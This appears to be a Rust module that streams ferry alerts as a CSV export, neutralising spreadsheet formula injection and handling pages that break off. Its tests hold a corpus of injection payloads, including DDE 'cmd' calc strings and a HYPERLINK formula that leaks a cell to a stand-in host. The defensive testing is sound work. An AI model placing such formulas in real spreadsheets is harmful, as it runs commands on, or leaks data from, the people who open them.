//! Alerts as a table for spreadsheets (RFC 4180), written while it is read. Promises that no cell is read as a formula, whatever an operator
//! or a person wrote, and that each cell reads back: one that could begin a formula, or begins with the mark itself, has one mark before
//! it. That never more than one page of it is in memory, that no transaction stays open while the reader is slow, that each page asks
//! anew whether its reader may, and that a table which broke off can be told from a whole one: by its transfer, and by a last line
//! that no program reads as a row.

use crate::{alerts::asked_by, problem::Problem, sheet::Sheet, signed_in::MemberCx};
use axum::{
    body::Body,
    http::header,
    response::{IntoResponse, Response},
};
use chrono::{DateTime, Utc};
use csv::{QuoteStyle, Terminator, WriterBuilder};
use domain::access::Action;
use futures::{StreamExt, stream};
use store::{
    PAGE_MAX, Place,
    alert::{self, ShownAlert},
};
use uuid::Uuid;
use words::Said;

/// Pages of one table: a million rows, which is what a spreadsheet holds. Past it the table breaks off.
const PAGES_MAX: usize = 10_000;

/// What stands before a cell that a spreadsheet would take for a formula (OWASP, "CSV Injection").
const MARK: char = '\'';

const COLUMNS: [&str; 15] = [
    "alert",
    "watch",
    "kind",
    "leg",
    "operator",
    "route",
    "departs_local",
    "zone",
    "vessel",
    "class",
    "seen_at",
    "told_at",
    "closed_at",
    "closed_reason",
    "answer",
];

/// What comes next in the table.
enum Step {
    /// The so-many-th page, after this place.
    Page(usize, Place<Uuid>),
    /// Nothing any more, though there is more.
    BreakOff(Broken),
}

/// Why a table breaks off.
#[derive(Debug, thiserror::Error)]
enum Broken {
    #[error(transparent)]
    Store(#[from] store::Error),
    #[error("it has more than {PAGES_MAX} pages")]
    Endless,
    #[error("its reader may not read it any more")]
    Shut,
}

pub(crate) async fn export(cx: MemberCx) -> Result<Response, Problem> {
    let mut tx = cx.begin().await?;
    let page = alert::list(&mut tx, &super::asked(&cx), None, PAGE_MAX).await?;
    drop(tx);
    let mut first = vec![COLUMNS.map(str::to_owned).to_vec()];
    first.extend(page.rows.iter().map(row));
    let first = stream::iter([Ok(table(&first))]);
    let rest = stream::try_unfold((cx, page.next.map(|next| Step::Page(1, next))), |(cx, step)| async move {
        let (text, step) = match step {
            None => return Ok(None),
            Some(Step::BreakOff(error)) => return Err(error),
            Some(Step::Page(n, after)) => match rows_after(&cx, n, &after).await {
                Ok((rows, next)) => (table(&rows), next.map(|next| Step::Page(n + 1, next))),
                Err(error) => {
                    tracing::error!(%error, "a table of alerts broke off");
                    (broken_off(cx.signed_in().sheet()), Some(Step::BreakOff(error)))
                }
            },
        };
        Ok(Some((text, (cx, step))))
    });
    let headers = [
        (header::CONTENT_TYPE, "text/csv; charset=utf-8; header=present"),
        (header::CONTENT_DISPOSITION, "attachment; filename=\"ferryalert-alerts.csv\""),
    ];
    Ok((headers, Body::from_stream(first.chain(rest))).into_response())
}

/// The rows of a page, and the place after it; for as long as the session and the membership go on that asked for the table.
async fn rows_after(
    cx: &MemberCx,
    page: usize,
    after: &Place<Uuid>,
) -> Result<(Vec<Vec<String>>, Option<Place<Uuid>>), Broken> {
    if page >= PAGES_MAX {
        return Err(Broken::Endless);
    }
    let _turn = cx.app().live.turn().await;
    let now = cx.again(Action::ReadWatches).await?.ok_or(Broken::Shut)?;
    let asked = asked_by(now.membership().plan(), cx.now());
    let mut tx = cx.app().store.begin(now.membership()).await?;
    let page = alert::list(&mut tx, &asked, Some(after), PAGE_MAX).await?;
    Ok((page.rows.iter().map(row).collect(), page.next))
}

/// The last line of a table that is not whole, for whoever opens it all the same: one cell that never closes, so that no program takes
/// it for a row.
fn broken_off(sheet: &Sheet) -> Vec<u8> {
    format!("\"{}", sheet.tell(&Said::new("alerts-csv-broken-off"))).into_bytes()
}

fn row(alert: &ShownAlert) -> Vec<String> {
    let instant = |at: DateTime<Utc>| at.format("%FT%TZ").to_string();
    vec![
        alert.id.to_string(),
        alert.watch.to_string(),
        alert.kind.to_string(),
        crate::alerts::leg_word(alert.leg).to_owned(),
        alert.sailing.operator.manifest().name.to_owned(),
        alert.sailing.route.to_string(),
        alert.sailing.departs_local.format("%F %H:%M").to_string(),
        alert.sailing.zone.name().to_owned(),
        alert.sailing.vessel.as_ref().map(ToString::to_string).unwrap_or_default(),
        alert.class.to_string(),
        instant(alert.seen_at),
        instant(alert.released_at),
        alert.closed_at.map(instant).unwrap_or_default(),
        alert.closed_reason.clone().unwrap_or_default(),
        alert.answer.clone().unwrap_or_default(),
    ]
}

/// Rows as a table.
fn table(rows: &[Vec<String>]) -> Vec<u8> {
    let mut writer =
        WriterBuilder::new().terminator(Terminator::CRLF).quote_style(QuoteStyle::Always).from_writer(Vec::new());
    for row in rows {
        let cells = row.iter().map(|cell| inert(cell));
        writer.write_record(cells).expect("BUG: rows of one length go into memory");
    }
    writer.into_inner().expect("BUG: memory takes what is left")
}

/// A cell that no spreadsheet reads as a formula (ASVS 1.2.10).
fn inert(cell: &str) -> String {
    let begins_formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '\0', MARK]);
    if begins_formula { format!("{MARK}{cell}") } else { cell.to_owned() }
}

#[cfg(test)]
mod tests {
    use super::*;
    use csv::ReaderBuilder;
    use proptest::prelude::*;

    /// What spreadsheets were attacked with.
    const CORPUS: [&str; 14] = [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\0=1+1",
        "=HYPERLINK(\"https://evil.test?x=\"&A1,\"click\")",
        "'=1+1",
        "a\",=1+1,\"",
        "a\r\n=1+1",
        "=\"\"",
        "-",
    ];

    fn read(table: &[u8]) -> Vec<Vec<String>> {
        let mut reader = ReaderBuilder::new().has_headers(false).from_reader(table);
        reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect()
    }

    fn as_meant(cell: &str) -> &str {
        cell.strip_prefix(MARK).unwrap_or(cell)
    }

    fn holds(rows: &[Vec<String>]) {
        let table = table(rows);
        let back = read(&table);
        let meant: Vec<Vec<&str>> = back.iter().map(|row| row.iter().map(|cell| as_meant(cell)).collect()).collect();
        assert_eq!(meant, rows, "each cell reads back");
        for cell in back.iter().flatten() {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\0']), "{cell:?} would be a formula");
        }
        assert!(table.ends_with(b"\"\r\n"), "RFC 4180 ends lines with CRLF");
    }

    #[test]
    fn sr_inj_03_no_cell_of_the_corpus_is_a_formula_and_each_reads_back() {
        holds(&[CORPUS.map(str::to_owned).to_vec()]);
    }

    proptest! {
        #[test]
        fn sr_inj_03_no_cell_is_a_formula_and_each_reads_back(
            cells in prop::collection::vec("[-=+@\t\r\n\0'\",;aé ]{0,12}", 1..6), rows in 1_usize..4,
        ) {
            holds(&vec![cells; rows]);
        }
    }
}
